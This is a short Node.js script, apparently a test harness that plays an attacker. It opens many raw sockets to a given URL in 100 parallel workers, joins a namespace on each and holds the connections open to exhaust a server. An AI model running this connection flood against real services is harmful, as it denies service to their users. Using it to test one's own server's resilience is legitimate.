import { setPriority } from 'node:os';
import { joinNamespace, openRaw } from './raw-socket.js';

/** Handshakes under way at a time. */
const AT_ONCE = 100;

const [, , url = '', count = '', address = ''] = process.argv;
// An attacker has a machine of their own: the server's turn comes first.
setPriority(19);

let tried = 0;
let opened = 0;
await Promise.all(
  Array.from({ length: AT_ONCE }, async () => {
    while (tried < Number(count)) {
      tried += 1;
      const socket = await openRaw(url, address);
      if (!socket) continue;
      await joinNamespace(socket);
      if (!socket.destroyed) opened += 1;
    }
  }),
);
// The sockets stay open until somebody ends this process.
process.stdout.write(`opened ${opened}\n`);
